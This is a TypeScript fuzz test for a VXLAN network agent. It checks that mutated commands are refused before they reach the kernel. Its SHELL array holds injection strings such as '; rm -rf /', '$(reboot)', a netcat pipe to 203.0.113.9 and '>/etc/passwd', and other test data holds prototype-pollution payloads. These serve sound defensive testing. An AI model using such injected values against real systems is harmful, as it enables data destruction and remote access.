import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { AgentRejectionCode } from '../../agent/agent-error.js';
import { createAgent } from '../../agent/create-agent.js';
import { createMemoryLogger } from '../../agent/create-logger.js';
import { createRecordingExecutor } from '../../agent/kernel-executor.js';
import { aapAddressSchema, idSchema } from '../../src/contracts/primitives.js';
import { agentConfig, deltaCommand, FLOOD, LOCAL, NET, NODE1, ROUTER } from './fixtures.js';

const SHELL = [
  '; rm -rf /',
  '$(reboot)',
  '`id`',
  '| nc 203.0.113.9 1',
  '&& true',
  '\n',
  '\u0000',
  "' OR '1",
  '>/etc/passwd',
  '-batch',
  '--help',
  ' dev lo',
  '*',
];
const PROTO = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

/** A string built around shell metacharacters, option injection or prototype keys. */
const nasty = fc.oneof(
  fc.constantFrom(...SHELL, ...PROTO),
  fc
    .tuple(fc.constantFrom('fa:16:3e:00:00:01', '192.0.2.1', 'vx-100', NET), fc.constantFrom(...SHELL))
    .map(([a, b]) => a + b),
  fc.string({ minLength: 0, maxLength: 40 }),
  fc.string({ minLength: 200, maxLength: 400 }),
);

const badMac = fc.oneof(
  nasty.filter((s) => !/^[0-9a-f]{2}(:[0-9a-f]{2}){5}$/i.test(s)),
  fc.constantFrom(
    '01:00:5e:00:00:01',
    'ff:ff:ff:ff:ff:ff',
    '33:33:00:00:00:01',
    'fa:16:3e:00:00',
    'fa:16:3e:00:00:01:02',
    'fa-16-3e-00-00-01',
    'fa:16:3e:00:00:0g',
    'fa163e000001',
  ),
);
const badIp = fc.oneof(
  nasty.filter((s) => !/^[0-9a-f:.]+$/i.test(s)),
  fc.constantFrom(
    '256.1.1.1',
    '1.2.3',
    '01.2.3.4',
    '1.2.3.4/24',
    '::ffff:zz',
    '2001:db8::1::2',
    '0.0.0.0',
    '::',
    '192.0.2.1 ',
    '',
  ),
);

type Mutation = {
  readonly name: string;
  readonly codes: readonly AgentRejectionCode[];
  readonly apply: (c: Cmd) => Cmd | string;
  /**
   * `entry`: the mutation adds one bad entry next to the good ones, so the agent refuses that
   * entry only and programs exactly what the unmutated command programs. Otherwise the whole
   * command is refused.
   */
  readonly scope?: 'entry';
};
type Cmd = { [key: string]: unknown; payloads: unknown[] };

const base = (): Cmd => deltaCommand(1, 0, { add: { [NODE1]: [FLOOD, ROUTER] } }) as Cmd;
const GOOD_PORTS = { [NODE1]: [FLOOD, ROUTER] };
const withPorts = (c: Cmd, ports: Record<string, unknown>): Cmd => ({
  ...c,
  payloads: [
    { method: 'add_fdb_entries', fdb_entries: { [NET]: { segment_id: 100, network_type: 'vxlan', ports } } },
  ],
});

const mutations: fc.Arbitrary<Mutation> = fc.oneof(
  badMac.map((m) => ({
    name: `entry mac ${JSON.stringify(m)}`,
    codes: ['invalid_mac', 'invalid_flooding_entry'] as const,
    scope: 'entry' as const,
    apply: (c: Cmd) => withPorts(c, { [NODE1]: [FLOOD, ROUTER, [m, '192.0.2.1']] }),
  })),
  badIp.map((ip) => ({
    name: `entry ip ${JSON.stringify(ip)}`,
    codes: ['invalid_ip'] as const,
    scope: 'entry' as const,
    apply: (c: Cmd) => withPorts(c, { [NODE1]: [FLOOD, ROUTER, ['fa:16:3e:00:00:02', ip]] }),
  })),
  badIp.map((ip) => ({
    name: `vtep ${JSON.stringify(ip)}`,
    codes: ['invalid_ip'] as const,
    scope: 'entry' as const,
    apply: (c: Cmd) => withPorts(c, { ...GOOD_PORTS, [ip]: [FLOOD] }),
  })),
  fc.constantFrom(LOCAL, '2001:db8::21').map((ip) => ({
    name: `vtep ${ip}`,
    codes: ['self_vtep', 'address_family'] as const,
    scope: 'entry' as const,
    apply: (c: Cmd) => withPorts(c, { ...GOOD_PORTS, [ip]: [FLOOD] }),
  })),
  fc.constantFrom('0.0.0.0', '192.0.2.1').map((ip) => ({
    name: `flooding ip ${ip}`,
    codes: ['invalid_flooding_entry'] as const,
    scope: 'entry' as const,
    apply: (c: Cmd) =>
      withPorts(c, { [NODE1]: [FLOOD, ROUTER, ['00:00:00:00:00:00', ip === '0.0.0.0' ? '192.0.2.1' : ip]] }),
  })),
  fc
    .constantFrom<unknown>(
      [],
      ['fa:16:3e:00:00:01'],
      ['fa:16:3e:00:00:01', '192.0.2.1', 'x'],
      [1, 2],
      'fa:16:3e:00:00:01',
      null,
    )
    .map((e) => ({
      name: `entry shape ${JSON.stringify(e)}`,
      codes: ['invalid_command'] as const,
      apply: (c: Cmd) => withPorts(c, { [NODE1]: [e] }),
    })),
  nasty
    .filter((s) => !/^[A-Za-z0-9][A-Za-z0-9._:-]{0,127}$/.test(s))
    .map((id) => ({
      name: `networkId ${JSON.stringify(id)}`,
      codes: ['invalid_id'] as const,
      apply: (c: Cmd) => ({ ...c, networkId: id }),
    })),
  fc.constantFrom(...PROTO, 'other-net').map((k) => ({
    name: `payload network ${k}`,
    codes: ['network_mismatch', 'invalid_id', 'forbidden_key'] as const,
    apply: (c: Cmd) => ({
      ...c,
      payloads: [
        {
          method: 'add_fdb_entries',
          fdb_entries: { [k]: { segment_id: 100, network_type: 'vxlan', ports: { [NODE1]: [FLOOD] } } },
        },
      ],
    }),
  })),
  fc.constantFrom(...PROTO).map((k) => ({
    name: `ports key ${k}`,
    codes: ['invalid_ip'] as const,
    scope: 'entry' as const,
    apply: (c: Cmd) => withPorts(c, { ...GOOD_PORTS, [k]: [FLOOD] }),
  })),
  fc.constantFrom<unknown>(0, -1, 16_777_216, 2 ** 31, 1.5, '100', null, 1e20).map((vni) => ({
    name: `vni ${vni}`,
    codes: ['invalid_vni', 'invalid_command'] as const,
    apply: (c: Cmd) => ({ ...c, segment: { networkType: 'vxlan', segmentId: vni } }),
  })),
  fc.constantFrom(101, 200).map((vni) => ({
    name: `payload vni ${vni}`,
    codes: ['segment_mismatch'] as const,
    apply: (c: Cmd) => ({
      ...c,
      payloads: [
        {
          method: 'add_fdb_entries',
          fdb_entries: { [NET]: { segment_id: vni, network_type: 'vxlan', ports: { [NODE1]: [FLOOD] } } },
        },
      ],
    }),
  })),
  fc.constantFrom('gre', 'geneve', 'vlan').map((t) => ({
    name: `network type ${t}`,
    codes: ['unsupported_network_type'] as const,
    apply: (c: Cmd) => ({ ...c, segment: { networkType: t, segmentId: 100 } }),
  })),
  nasty.map((t) => ({
    name: `network type ${JSON.stringify(t)}`,
    codes: ['invalid_command'] as const,
    apply: (c: Cmd) => ({ ...c, segment: { networkType: t, segmentId: 100 } }),
  })),
  fc.constantFrom<unknown>(2, '1', null, 0).map((v) => ({
    name: `v ${v}`,
    codes: ['unsupported_version'] as const,
    apply: (c: Cmd) => ({ ...c, v }),
  })),
  nasty.map((k) => ({
    name: `kind ${JSON.stringify(k)}`,
    codes: ['invalid_command'] as const,
    apply: (c: Cmd) => ({ ...c, kind: k }),
  })),
  nasty.map((m) => ({
    name: `method ${JSON.stringify(m)}`,
    codes: ['invalid_command'] as const,
    apply: (c: Cmd) => ({ ...c, payloads: [{ method: m, fdb_entries: {} }] }),
  })),
  fc.constantFrom<unknown>(-1, 0, 1.5, 2 ** 60, '3', null).map((version) => ({
    name: `version ${version}`,
    codes: ['invalid_command'] as const,
    apply: (c: Cmd) => ({ ...c, version }),
  })),
  fc.constant({
    name: 'four payloads',
    codes: ['limit_exceeded'] as const,
    apply: (c: Cmd) => ({ ...c, payloads: [...c.payloads, ...c.payloads, ...c.payloads, ...c.payloads] }),
  }),
  fc.constant({
    name: 'one MAC behind two VTEPs',
    codes: ['duplicate_mac'] as const,
    scope: 'entry' as const,
    apply: (c: Cmd) => withPorts(c, { ...GOOD_PORTS, '198.51.100.22': [ROUTER] }),
  }),
  fc.constant({
    name: 'one IP with two MACs',
    codes: ['duplicate_ip'] as const,
    scope: 'entry' as const,
    apply: (c: Cmd) => withPorts(c, { [NODE1]: [FLOOD, ROUTER, ['fa:16:3e:00:00:02', '192.0.2.1']] }),
  }),
  // the records of the ports bound to this host (docs/vip.md): a bad one refuses the command
  fc
    .oneof(
      badMac.map((mac) => ({ mac, codes: ['invalid_mac', 'invalid_command'] as const })),
      badIp.map((ip) => ({ ips: [ip], codes: ['invalid_ip', 'invalid_command'] as const })),
      nasty
        .filter((t) => !aapAddressSchema.safeParse(t).success)
        .map((ipAddress) => ({
          allowedAddressPairs: [{ ipAddress, macAddress: 'fa:16:3e:00:00:10' }],
          codes: ['invalid_command'] as const,
        })),
      nasty
        .filter((t) => !idSchema.safeParse(t).success)
        .map((id) => ({ id, codes: ['invalid_id', 'invalid_command'] as const })),
    )
    .map(({ codes, ...bad }) => ({
      name: `local port ${JSON.stringify(bad)}`,
      codes,
      apply: (c: Cmd) => ({
        ...c,
        localPorts: {
          upsert: [
            { id: 'port-1', mac: 'fa:16:3e:00:00:10', ips: ['192.0.2.10'], allowedAddressPairs: [], ...bad },
          ],
          remove: [],
        },
      }),
    })),
  fc.integer({ min: 256 * 1024, max: 300 * 1024 }).map((n) => ({
    name: `oversized ${n}`,
    codes: ['oversized'] as const,
    apply: (c: Cmd) => JSON.stringify({ ...c, pad: 'x'.repeat(n) }),
  })),
  nasty.map((s) => ({
    name: `raw body ${JSON.stringify(s)}`,
    codes: ['malformed_json', 'invalid_command', 'unsupported_version'] as const,
    apply: () => s,
  })),
  fc.integer({ min: 5_000, max: 50_000 }).map((d) => ({
    name: `nesting ${d}`,
    codes: ['malformed_json', 'invalid_command', 'oversized'] as const,
    apply: () => `${'['.repeat(d)}${']'.repeat(d)}`,
  })),
);

/** Noise that must not change the verdict: unknown and prototype keys around a bad command. */
const noise = fc.constantFrom<Record<string, unknown>>(
  {},
  { extra: 1 },
  JSON.parse('{"__proto__": {"polluted": true}}'),
  { constructor: { prototype: { polluted: true } } },
);

function freshAgent() {
  const executor = createRecordingExecutor();
  const agent = createAgent({
    config: agentConfig(),
    executor,
    log: createMemoryLogger(),
    send: async () => {},
    now: () => 0,
  });
  return { agent, executor };
}

describe('hostile commands never reach the kernel (a hostile entry: only the rest of its command does)', () => {
  it('rejects every mutated command with a specific code and records zero argv', async () => {
    await fc.assert(
      fc.asyncProperty(mutations, noise, async (mutation, extra) => {
        const { agent, executor } = freshAgent();
        const mutated = mutation.apply({ ...base(), ...extra });
        const body = typeof mutated === 'string' ? mutated : JSON.stringify(mutated);
        const outcome = await agent.handle(body);
        if (mutation.scope === 'entry' && !body.includes('"__proto__":')) {
          // One bad entry: refused with its code; the kernel sees exactly the clean command.
          const clean = freshAgent();
          expect(await clean.agent.handle(JSON.stringify({ ...base(), ...extra }))).toMatchObject({
            kind: 'applied',
            refused: [],
          });
          expect(outcome, mutation.name).toMatchObject({ kind: 'applied', version: 1 });
          const refused = outcome.kind === 'applied' ? (outcome.refused ?? []) : [];
          expect(refused.length, mutation.name).toBeGreaterThan(0);
          for (const r of refused) expect(mutation.codes, `${mutation.name}: ${r.reason}`).toContain(r.code);
          expect(executor.calls).toEqual(clean.executor.calls);
          expect(({} as Record<string, unknown>).polluted).toBeUndefined();
          return;
        }
        expect(executor.calls).toEqual([]);
        expect(outcome.kind, mutation.name).toBe('rejected');
        const codes: string[] = [...mutation.codes];
        // A `__proto__` key anywhere is refused before the schema runs, whatever else is wrong.
        if (body.includes('"__proto__":')) codes.push('forbidden_key');
        if (outcome.kind === 'rejected')
          expect(codes, `${mutation.name}: ${outcome.message}`).toContain(outcome.code);
        expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      }),
      { numRuns: 600 },
    );
  });

  it('applies valid commands, so the property above is not vacuous', async () => {
    const { agent, executor } = freshAgent();
    const outcome = await agent.handle(JSON.stringify({ ...base(), __proto__: null, extra: '; rm -rf /' }));
    expect(outcome).toMatchObject({ kind: 'applied', version: 1 });
    const argv = executor.calls.map((c) => [c.program, ...c.args].join(' '));
    expect(argv).toContain(`bridge fdb replace fa:16:3e:00:00:01 dev vx-100 dst ${NODE1} self permanent`);
    expect(argv).toContain('ip neigh replace 192.0.2.1 lladdr fa:16:3e:00:00:01 dev vx-100 nud permanent');
  });

  it('rejects a snapshot split into more parts than any real network needs before touching the kernel', async () => {
    const { agent, executor } = freshAgent();
    const body = JSON.stringify({
      v: 1,
      kind: 'snapshot',
      networkId: NET,
      version: 1,
      segment: { networkType: 'vxlan', segmentId: 100 },
      part: { index: 0, count: 65 },
      fdb_entries: { [NET]: { segment_id: 100, network_type: 'vxlan', ports: {} } },
    });
    expect(await agent.handle(body)).toMatchObject({ kind: 'rejected', code: 'limit_exceeded' });
    expect(executor.calls).toEqual([]);
  });
});
